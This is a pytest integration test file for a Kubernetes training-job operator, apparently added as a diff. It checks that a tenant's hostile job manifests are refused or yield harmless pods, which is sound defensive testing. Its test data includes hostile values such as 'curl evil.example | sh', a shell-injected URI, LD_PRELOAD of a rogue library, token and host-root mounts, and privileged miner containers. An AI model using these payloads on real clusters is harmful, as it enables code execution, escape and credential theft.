@@ -1,0 +1,509 @@
+"""Hostile jobs before a real API server with the chart's CRD and policies: refused, or their pods are harmless."""
+
+from __future__ import annotations
+
+import random
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+
+from nexa_operator.errors import RuntimeUnavailableError
+from nexa_operator.plan import Defaults, make_plan
+from nexa_operator.runtimes import job as runtime
+from nexa_operator.spec import parse
+from nexa_train.config import crd
+from nexa_train.errors import ConfigError
+from tests.cluster.api import Api, Refused
+from tests.cluster.cluster import Cluster
+from tests.cluster.run import wait_until
+from tests.integration.harness import RELEASE_NAMESPACE, Namespace, install_chart, manifest, new_namespace
+
+pytestmark = pytest.mark.integration
+
+Object = dict[str, Any]
+
+GROUP = "/apis/train.nexa.dev/v1alpha1"
+ALLOWED = ("registry.example/team/", "nexa-trainer")
+DEFAULTS = Defaults(image="nexa-trainer:0.1.0", storage="default")
+MALLORY = "mallory"
+REFUSALS = (400, 403, 413, 422)
+JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"
+
+
+@dataclass(frozen=True)
+class Arena:
+    """A namespace where Mallory may do everything to jobs, pods and services, and Pods must be restricted."""
+
+    ns: Namespace
+    admin: Api
+    mallory: Api
+
+    @property
+    def path(self) -> str:
+        return f"{GROUP}/namespaces/{self.ns.namespace}/nexatrainingjobs"
+
+    @property
+    def core(self) -> str:
+        return f"/api/v1/namespaces/{self.ns.namespace}"
+
+    @property
+    def jobs(self) -> str:
+        return f"/apis/batch/v1/namespaces/{self.ns.namespace}/jobs"
+
+
+@pytest.fixture(scope="module")
+def chart(control_plane: Cluster) -> Iterator[Cluster]:
+    control_plane.kubectl("create", "namespace", RELEASE_NAMESPACE, check=False)
+    install_chart(control_plane, f"policy.allowedImages={{{','.join(ALLOWED)}}}")
+    control_plane.kubectl("wait", "--for=condition=Established", "--timeout=30s", "crd/nexatrainingjobs.train.nexa.dev")
+    yield control_plane
+    install_chart(control_plane)
+
+
+@pytest.fixture(scope="module")
+def limited(chart: Cluster) -> Iterator[Namespace]:
+    """Made first and used last: the quota controller looks for new kinds twice a minute."""
+    with new_namespace(chart) as ns:
+        ns.kubectl("create", "quota", "jobs", "--hard=count/nexatrainingjobs.train.nexa.dev=1")
+        yield ns
+
+
+@pytest.fixture(scope="module")
+def arena(chart: Cluster, limited: Namespace) -> Iterator[Arena]:
+    admin, mallory = Api(chart), Api(chart, as_user=MALLORY)
+    with new_namespace(chart) as ns:
+        chart.kubectl("label", f"namespace/{ns.namespace}", "pod-security.kubernetes.io/enforce=restricted")
+        everything = ("--verb=*", "--resource=nexatrainingjobs.train.nexa.dev,nexatrainingjobs.train.nexa.dev/status")
+        ns.kubectl("create", "role", "tenant", *everything)
+        ns.kubectl("create", "rolebinding", "tenant", "--role=tenant", f"--user={MALLORY}")
+        ns.kubectl("create", "rolebinding", "edit", "--clusterrole=edit", f"--user={MALLORY}")
+        arena = Arena(ns, admin, mallory)
+        missing = lambda: [policy for policy in PROBES if policy not in _probed(arena, policy)]  # noqa: E731
+        wait_until(
+            lambda: not missing(),
+            timeout_seconds=30,
+            what="the policies are in force",
+            detail=lambda: "\n".join(f"{policy}: {_probed(arena, policy)}" for policy in missing()),
+        )
+        yield arena
+    admin.close()
+    mallory.close()
+
+
+PROBES = ("nexa-jobs", "nexa-children", "nexa-templates")
+
+
+def _probed(arena: Arena, policy: str) -> str:
+    """The API server takes up policies and roles a moment after it has accepted them; this says what it thinks now."""
+    path, body = {
+        "nexa-jobs": (arena.path, hostile(image="elsewhere/x")),
+        "nexa-children": (f"{arena.core}/pods", a_pod(labels=OURS)),
+        "nexa-templates": (arena.jobs, a_job("probe", MINE, OURS)),
+    }[policy]
+    return said(arena.mallory, f"{path}?dryRun=All", body)
+
+
+def said(api: Api, path: str, body: Object) -> str:
+    """The API server's refusal; empty if it agreed."""
+    try:
+        api.create(path, body)
+    except Refused as refused:
+        if refused.status not in REFUSALS:
+            raise
+        return refused.message
+    return ""
+
+
+def hostile(name: str = "hostile", **groups: Any) -> Object:
+    """A job that could run, but for what the test is about."""
+    document = manifest(name)
+    document["spec"] |= groups
+    return document
+
+
+def env(name: str, value: str = "x") -> Object:
+    return {"cluster": {"env": [{"name": name, "value": value}]}}
+
+
+def mount(path: str, **more: Any) -> Object:
+    return {"cluster": {"volumes": [{"name": "v", "mountPath": path, "configMap": "c", **more}]}}
+
+
+def volumes(*given: tuple[str, str]) -> Object:
+    return {"cluster": {"volumes": [{"name": name, "mountPath": path, "claim": "c"} for name, path in given]}}
+
+
+def toleration(**given: str) -> Object:
+    return {"cluster": {"tolerations": [given]}}
+
+
+REFUSED: dict[str, Object] = {
+    "the protocol: the job": env("NEXA_JOB", "{}"),
+    "the protocol: the rendezvous": env("NEXA_RDZV_ENDPOINT", "evil.example:29500"),
+    "the protocol: a name of tomorrow": env("NEXA_SOMETHING"),
+    "the rank": env("JOB_COMPLETION_INDEX", "0"),
+    "a library before all others": env("LD_PRELOAD", "/rows/evil.so"),
+    "Python's path": env("PYTHONPATH", "/rows"),
+    "the path": env("PATH", "/rows"),
+    "a name that is none": env("A=B"),
+    "a name with a line end": env("A\n"),
+    "more variables than there may be": {"cluster": {"env": [{"name": f"A{i}", "value": ""} for i in range(65)]}},
+    "a value longer than it may be": env("A", "x" * 1025),
+    "the pod's temporary folder": mount("/tmp"),
+    "code before ours on Python's path": mount("/tmp/nexa_train"),
+    "the trainer's code": mount("/opt/nexa/lib/python3.11/site-packages/nexa_train"),
+    "shared memory": mount("/dev/shm"),
+    "last words": mount("/dev/termination-log"),
+    "processes": mount("/proc/self"),
+    "the kernel's settings": mount("/sys/fs/cgroup"),
+    "users": mount("/etc/passwd"),
+    "libraries": mount("/lib64"),
+    "a token of its own": mount("/var/run/secrets/kubernetes.io/serviceaccount"),
+    "everything": mount("/"),
+    "up and elsewhere": mount("/rows/../etc"),
+    "an empty step": mount("//etc"),
+    "a path that is relative": mount("rows"),
+    "a path with a line end": mount("/rows\n"),
+    "a path with a colon": mount("/rows:rw"),
+    "a volume of the operator's name": volumes(("nexa-shm", "/rows")),
+    "two volumes of one name": volumes(("v", "/a"), ("v", "/b")),
+    "two volumes in one place": volumes(("a", "/v"), ("b", "/v")),
+    "a volume from two sources": mount("/v", claim="c"),
+    "a path of the node": {"cluster": {"volumes": [{"name": "v", "mountPath": "/v", "hostPath": {"path": "/"}}]}},
+    "a secret as a volume": {"cluster": {"volumes": [{"name": "v", "mountPath": "/v", "secret": {"secretName": "s"}}]}},
+    "a claim of another namespace": mount("/v", configMap="kube-system/c"),
+    "more volumes than there may be": volumes(*((f"v{i}", f"/v{i}") for i in range(17))),
+    "to be another job's pod": {"cluster": {"labels": {"train.nexa.dev/job-uid": "another"}}},
+    "to be another attempt's pod": {"cluster": {"labels": {"train.nexa.dev/attempt": "7"}}},
+    "to be another Job's pod": {"cluster": {"labels": {"batch.kubernetes.io/job-name": "another"}}},
+    "to be another Job's pod, as of old": {"cluster": {"labels": {"controller-uid": "another"}}},
+    "to jump the queue": {"cluster": {"labels": {"kueue.x-k8s.io/queue-name": "vip"}}},
+    "a label that is none": {"cluster": {"labels": {"team": "a b\n"}}},
+    "more labels than there may be": {"cluster": {"labels": {f"l{i}": "" for i in range(65)}}},
+    "no AppArmor": {
+        "cluster": {"annotations": {"container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"}}
+    },
+    "every taint": toleration(operator="Exists"),
+    "the control plane": toleration(key="node-role.kubernetes.io/control-plane", operator="Exists"),
+    "to stay on a dead node": toleration(key="node.kubernetes.io/unreachable", operator="Exists", effect="NoExecute"),
+    "the system's priority": {"schedule": {"priority": "system-node-critical"}},
+    "the system's priority in the queue": {"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "system-x"}}},
+    "another kind of child": {"schedule": {"runtime": "daemonset"}},
+    "an image of elsewhere": {"image": "docker.io/evil/miner"},
+    "an image beside the allowed folder": {"image": "registry.example/teamster/miner"},
+    "the allowed folder itself": {"image": "registry.example/team:miner"},
+    "the allowed name as a registry": {"image": "nexa-trainer:5000/miner"},
+    "the allowed name with more to it": {"image": "nexa-trainer-miner:1"},
+    "an image after a space": {"image": " nexa-trainer:1"},
+    "an image with a line end": {"image": "nexa-trainer:1\ndocker.io/evil/miner"},
+    "a profile of another namespace": {"artifacts": {"uri": "s3://m", "storage": "../kube-system/admin"}},
+    "a profile by a path": {"data": {"remoteUri": "s3://d", "storage": "a/b"}},
+    "a profile by a variable": {"artifacts": {"uri": "s3://m", "storage": "$(HOME)"}},
+    "a billion pods": {"cluster": {"numNodes": 1_000_000_000}, "training": {"globalBatchSize": 1_000_000}},
+    "minus one GPU": {"cluster": {"gpusPerNode": -1}},
+    "a number in words": {"cluster": {"numNodes": "2"}},
+    "memory without end": {"cluster": {"resources": {"memory": "1e9999"}}},
+    "less than no CPU": {"cluster": {"resources": {"cpu": "-1"}}},
+    "a rate that is no number": {"optimizer": {"lr": float("inf")}},
+    "a group that is a word": {"cluster": "all"},
+    "a list that is a map": {"cluster": {"env": {"NEXA_JOB": "{}"}}},
+    "nothing": {"data": None},
+    "more than fits": {"data": {"remoteUri": "x" * 4_000_000}},
+}
+"""What a tenant must not be able to ask for; the API server says no."""
+
+
+@pytest.mark.parametrize("attempt", REFUSED)
+def test_a_hostile_job_is_refused(arena: Arena, attempt: str):
+    assert said(arena.mallory, arena.path, hostile(**REFUSED[attempt]))
+
+
+MALFORMED: dict[str, Object] = {
+    "a name with a path": hostile("../../kube-system/x"),
+    "a name with dots": hostile("a.b"),
+    "a name that no pod could be named after": hostile("n" * 46),
+    "another namespace": {**hostile(), "metadata": {"name": "x", "namespace": "kube-system"}},
+    "another kind": {**hostile(), "kind": "Pod"},
+    "another version": {**hostile(), "apiVersion": "train.nexa.dev/v9"},
+    "a spec that is a list": {**hostile(), "spec": []},
+    "no spec": {**hostile(), "spec": None},
+}
+
+
+@pytest.mark.parametrize("attempt", MALFORMED)
+def test_a_malformed_object_is_refused(arena: Arena, attempt: str):
+    assert said(arena.mallory, arena.path, MALFORMED[attempt])
+
+
+POD_KEYS: Object = {
+    "hostNetwork": True,
+    "hostPID": True,
+    "hostIPC": True,
+    "serviceAccountName": "cluster-admin",
+    "automountServiceAccountToken": True,
+    "securityContext": {"privileged": True, "runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN"]}},
+    "containers": [{"name": "miner", "image": "docker.io/evil/miner", "securityContext": {"privileged": True}}],
+    "initContainers": [{"name": "first", "image": "docker.io/evil/miner"}],
+    "hostPath": {"path": "/"},
+    "imagePullSecrets": [{"name": "s"}],
+    "nodeName": "control-plane",
+    "schedulerName": "mine",
+    "runtimeClassName": "unconfined",
+    "command": ["sh", "-c", "curl evil.example | sh"],
+    "envFrom": [{"secretRef": {"name": "admin"}}],
+    "lifecycle": {"postStart": {"exec": {"command": ["sh"]}}},
+    "template": {"spec": {"hostNetwork": True}},
+}
+"""Keys that a pod has and a job has not."""
+
+PRUNED: dict[str, Object] = {
+    **{f"spec.{key}": {key: value} for key, value in POD_KEYS.items()},
+    **{f"cluster.{key}": {"cluster": {key: value}} for key, value in POD_KEYS.items()},
+    "a variable from a secret": {
+        "cluster": {"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}]}
+    },
+    "a path of the node beside a config map": mount("/v", hostPath={"path": "/"}, subPath="../../etc"),
+    "the protocol's variables inside of another": env("A", "$(NEXA_JOB) $(AWS_SECRET_ACCESS_KEY)"),
+    "a shell in a URI": {"artifacts": {"uri": "s3://m/$(curl evil.example)/`id`;reboot"}},
+    "a token that is not there": {"data": {"remoteUri": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}},
+    "a place in the queue": {"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "low"}}},
+    "an allowed image by its digest": {"image": f"registry.example/team/x@sha256:{'0' * 64}"},
+    "another controller's": {"schedule": {"managedBy": "evil.example/x"}},
+}
+"""What the API server takes without what was hostile in it, or what is not hostile at all."""
+
+
+@pytest.mark.parametrize("attempt", PRUNED)
+def test_of_a_job_that_is_taken_the_pods_are_harmless(arena: Arena, attempt: str):
+    name = f"p{list(PRUNED).index(attempt)}"
+    stored = arena.mallory.create(arena.path, hostile(name, **PRUNED[attempt]))
+    pod = rendered(stored)
+    assert pod is not None
+    check_harmless(arena, stored, pod)
+
+
+def test_what_a_tenant_says_of_the_status_is_dropped_at_creation_and_refused_afterwards(arena: Arena):
+    forged = {"phase": "Succeeded", "attempt": 10**18}
+    stored = arena.mallory.create(arena.path, {**hostile("forged"), "status": forged})
+    assert "status" not in stored
+    with pytest.raises(Refused, match="written by the Nexa operator alone"):
+        arena.mallory.merge(f"{arena.path}/forged/status", {"status": forged})
+
+
+def rendered(stored: Object) -> Object | None:
+    """The pod that the operator makes of a stored job; None if it refuses the job."""
+    try:
+        plan = make_plan(parse(stored), owner_uid=stored["metadata"]["uid"], attempt=0, defaults=DEFAULTS)
+    except (ConfigError, RuntimeUnavailableError):
+        return None
+    template: Object = runtime.gang(plan)["spec"]["template"]
+    return {"apiVersion": "v1", "kind": "Pod", **template, "metadata": {**template["metadata"], "generateName": "x-"}}
+
+
+def check_harmless(arena: Arena, stored: Object, pod: Object) -> None:
+    """Nothing of the node, of another job or of another account; and Kubernetes' own judge agrees."""
+    spec, (container,) = pod["spec"], pod["spec"]["containers"]
+    metadata = stored["metadata"]
+    assert set(spec) <= POD_FIELDS
+    assert set(container) <= CONTAINER_FIELDS
+    assert spec["automountServiceAccountToken"] is False
+    assert {next(iter(set(volume) - {"name"})) for volume in spec["volumes"]} <= VOLUME_KINDS
+    assert container["image"].startswith(("registry.example/team/", "nexa-trainer:", "nexa-trainer@"))
+    assert not spec.get("priorityClassName", "").startswith("system-")
+    assert all(toleration.get("key") for toleration in spec.get("tolerations", []))
+    assert pod["metadata"]["labels"]["train.nexa.dev/job-uid"] == metadata["uid"]
+    assert pod["metadata"]["labels"]["train.nexa.dev/job-name"] == metadata["name"]
+    for source in container.get("envFrom", []):
+        ((_, reference),) = source.items()
+        assert reference["name"].startswith("nexa-storage-")
+    variables = [(variable["name"], variable["value"]) for variable in container["env"]]
+    assert len(dict(variables)) == len(variables)
+    assert dict(variables)["NEXA_ATTEMPT"] == "0"
+    assert all("$" not in value.replace("$$", "") for _, value in variables), "a single dollar would be expanded"
+    arena.admin.create(f"{arena.core}/pods?dryRun=All", pod)
+
+
+POD_FIELDS = {
+    "restartPolicy", "subdomain", "automountServiceAccountToken", "enableServiceLinks", "terminationGracePeriodSeconds",
+    "securityContext", "containers", "volumes", "nodeSelector", "tolerations", "priorityClassName", "affinity",
+    "topologySpreadConstraints", "schedulingGates", "hostname",
+}  # fmt: skip
+CONTAINER_FIELDS = {
+    "name", "image", "imagePullPolicy", "ports", "env", "envFrom", "terminationMessagePath", "terminationMessagePolicy",
+    "resources", "securityContext", "volumeMounts",
+}  # fmt: skip
+VOLUME_KINDS = {"emptyDir", "configMap", "persistentVolumeClaim"}
+
+NUM_FUZZED = 600
+NASTY: tuple[Any, ...] = (
+    "", "/", "..", "../../etc", "/tmp", "/dev/shm", "$(NEXA_JOB)", "a b", "a\nb", "\x00", "ünï", "-", "x" * 300,
+    "x" * 2000, "system-node-critical", "NEXA_JOB", "LD_PRELOAD", "train.nexa.dev/job-uid", "docker.io/evil/miner",
+    0, -1, 1, 2, 8, 2**31, 2**63 - 1, 10**30, 0.5, -0.0, 1e308, True, False, None, [], {}, [{}], [None], {"": ""},
+    {"type": "sft"}, {"train.nexa.dev/job-uid": "x"}, {"team": "a"}, [{"name": "NEXA_JOB", "value": "x"}],
+    [{"name": "v", "mountPath": "/etc", "configMap": "c"}], [{"name": "v", "mountPath": "/rows", "configMap": "c"}],
+    [{"operator": "Exists"}], [{"key": "gpu", "operator": "Exists"}], [{"name": "A", "value": "$(X)"}],
+)  # fmt: skip
+
+
+def places(schema: Object, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
+    """The path of every key that a job has."""
+    for key, child in schema.get("properties", {}).items():
+        yield (*path, key)
+        yield from places(child, (*path, key))
+
+
+def fuzzed(rng: random.Random, all_places: list[tuple[str, ...]]) -> Object:
+    """A job with one to three keys gone wrong, some of them keys that only a pod has."""
+    spec = hostile()["spec"]
+    for _ in range(rng.randint(1, 3)):
+        *groups, key = rng.choice(all_places)
+        value = rng.choice(NASTY)
+        if rng.random() < 0.2:
+            key, value = rng.choice(list(POD_KEYS.items()))
+        target = spec
+        for group in groups:
+            inner = target.get(group)
+            target[group] = target = dict(inner) if isinstance(inner, dict) else {}
+        target[key] = value
+    return {**hostile(), "spec": spec}
+
+
+def test_of_fuzzed_jobs_each_is_refused_or_harmless(arena: Arena):
+    rng, all_places = random.Random(5), list(places(crd.spec_schema()))
+    ends = Counter[str]()
+    for _ in range(NUM_FUZZED):
+        document = fuzzed(rng, all_places)
+        try:
+            stored = arena.mallory.create(f"{arena.path}?dryRun=All", document)
+        except Refused as refused:
+            if refused.status not in REFUSALS:
+                raise
+            ends["refused"] += 1
+            continue
+        pod = rendered(stored)
+        if pod is not None:
+            check_harmless(arena, stored, pod)
+        ends["harmless" if pod else "refused by the operator"] += 1
+    # Were all of one kind, it would be the fuzzer that does nothing.
+    assert min(ends["refused"], ends["harmless"]) >= 50, ends
+
+
+def a_pod(name: str = "forged", *, labels: dict[str, str] | None = None, **spec: Any) -> Object:
+    """One that is restricted, but for what the test is about."""
+    security = {"runAsNonRoot": True, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}}
+    container = {
+        "name": "main",
+        "image": "example.invalid/none",
+        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
+        **spec.pop("container", {}),
+    }
+    pod = {"containers": [container], "securityContext": security, "automountServiceAccountToken": False, **spec}
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": labels or {}}, "spec": pod}
+
+
+OURS = {"train.nexa.dev/job-uid": "11111111-2222-3333-4444-555555555555", "train.nexa.dev/job-name": "victim"}
+
+MINE = {"app": "mine"}
+"""A Job without labels is given its template's."""
+
+
+def a_job(name: str, labels: dict[str, str], pod_labels: dict[str, str]) -> Object:
+    pod = a_pod(restartPolicy="Never")
+    spec = {"suspend": True, "template": {"metadata": {"labels": pod_labels}, "spec": pod["spec"]}}
+    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name, "labels": labels}, "spec": spec}
+
+
+def a_service(name: str, labels: dict[str, str]) -> Object:
+    spec = {"clusterIP": "None", "selector": labels}
+    return {"apiVersion": "v1", "kind": "Service", "metadata": {"name": name, "labels": labels}, "spec": spec}
+
+
+ALONE = "made and changed by the Nexa operator alone"
+
+
+def test_nobody_makes_what_looks_like_a_child_of_a_job(arena: Arena):
+    for path, body in (
+        (f"{arena.core}/pods", a_pod(labels=OURS)),
+        (f"{arena.core}/services", a_service("forged", OURS)),
+        (arena.jobs, a_job("forged", OURS, {})),
+    ):
+        assert ALONE in said(arena.mallory, path, body)
+        body["metadata"]["labels"] = {}
+        assert not said(arena.mallory, path, body), "without the label it is nobody's business"
+        with pytest.raises(Refused, match=ALONE):
+            arena.mallory.merge(f"{path}/forged", {"metadata": {"labels": OURS}})
+
+
+def test_nobody_has_a_controller_make_pods_that_look_like_a_job_s(arena: Arena):
+    template = a_job("x", MINE, OURS)["spec"]["template"]
+    deployment = {
+        "replicas": 1,
+        "selector": {"matchLabels": OURS},
+        "template": a_job("x", MINE, OURS)["spec"]["template"],
+    }
+    deployment["template"]["spec"]["restartPolicy"] = "Always"
+    apps = f"/apis/apps/v1/namespaces/{arena.ns.namespace}"
+    assert "made by the Nexa operator alone" in said(arena.mallory, arena.jobs, a_job("wrapped", MINE, OURS))
+    arena.mallory.create(arena.jobs, a_job("later", MINE, MINE))
+    with pytest.raises(Refused, match=r"made by the Nexa operator alone|field is immutable"):
+        arena.mallory.merge(f"{arena.jobs}/later", {"spec": {"template": template}})
+    body = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "wrapped"}, "spec": deployment}
+    arena.mallory.create(f"{apps}/deployments", body)
+    failed = lambda: [each for each in arena.ns.list("events") if each["reason"] == "FailedCreate"]  # noqa: E731
+    (event, *_) = wait_until(failed, timeout_seconds=20, what="the ReplicaSet gets no pod")
+    assert ALONE in event["message"]
+
+
+def test_nobody_changes_a_child_or_takes_it_away_from_its_job(arena: Arena):
+    arena.admin.create(arena.jobs, a_job("child", OURS, OURS))
+    (container,) = arena.admin.create(f"{arena.core}/pods", a_pod("child", labels=OURS))["spec"]["containers"]
+    for path, change in (
+        (f"{arena.jobs}/child", {"spec": {"suspend": False}}),
+        (f"{arena.jobs}/child", {"metadata": {"labels": {"train.nexa.dev/job-uid": None}}}),
+        (f"{arena.core}/pods/child", {"metadata": {"labels": {"train.nexa.dev/job-uid": "another"}}}),
+        (f"{arena.core}/pods/child", {"spec": {"containers": [{**container, "image": "docker.io/evil/miner"}]}}),
+        (f"{arena.core}/pods/child", {"spec": {"activeDeadlineSeconds": 1}}),
+    ):
+        with pytest.raises(Refused, match=ALONE):
+            arena.mallory.merge(path, change)
+    arena.mallory.merge(f"{arena.core}/pods/child", {"metadata": {"annotations": {"note": "seen"}}})
+    arena.mallory.delete(f"{arena.core}/pods/child")
+
+
+BEYOND: dict[str, Object] = {
+    "hostNetwork": {"hostNetwork": True},
+    "hostPID": {"hostPID": True},
+    "hostIPC": {"hostIPC": True},
+    "a port of the node": {"container": {"ports": [{"containerPort": 80, "hostPort": 80}]}},
+    "privileged": {"container": {"securityContext": {"privileged": True}}},
+    "privileged before the others": {
+        "initContainers": [{"name": "first", "image": "x", "securityContext": {"privileged": True}}]
+    },
+    "a capability": {"container": {"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}},
+    "a path of the node": {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]},
+    "another service account": {"serviceAccountName": "other"},
+    "a token": {"automountServiceAccountToken": True},
+}
+
+
+@pytest.mark.parametrize("attempt", BEYOND)
+def test_not_even_a_controller_makes_such_a_pod_of_a_job(chart: Cluster, limited: Namespace, attempt: str):
+    limited.kubectl("create", "serviceaccount", "other", check=False)
+    controller = Api(chart, as_user=JOB_CONTROLLER)
+    path = f"/api/v1/namespaces/{limited.namespace}/pods?dryRun=All"
+    assert not said(controller, path, a_pod(labels=OURS))
+    refusal = said(controller, path, a_pod(labels=OURS, **BEYOND[attempt]))
+    controller.close()
+    assert "a trainer's" in refusal
+
+
+def test_a_quota_on_jobs_holds(arena: Arena, limited: Namespace):
+    path = f"{GROUP}/namespaces/{limited.namespace}/nexatrainingjobs"
+    counted = lambda: (limited.get("quota/jobs") or {}).get("status", {}).get("used")  # noqa: E731
+    wait_until(counted, timeout_seconds=90, what="the quota counts jobs")
+    arena.admin.create(path, hostile("first"))
+    with pytest.raises(Refused, match="exceeded quota: jobs"):
+        arena.admin.create(path, hostile("second"))
